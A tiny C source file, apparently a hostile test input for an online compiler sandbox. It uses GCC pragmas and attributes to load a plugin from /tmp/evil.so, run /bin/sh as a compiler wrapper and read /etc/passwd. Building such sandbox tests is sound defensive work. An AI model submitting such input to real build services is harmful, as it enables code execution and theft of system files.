#pragma GCC optimize("-fplugin=/tmp/evil.so")
#pragma GCC optimize("-fdump-tree-all=/tmp/evil")
__attribute__((optimize("-wrapper=/bin/sh", "@/etc/passwd"))) int f(void) { return 0; }
int main(void) { return f(); }
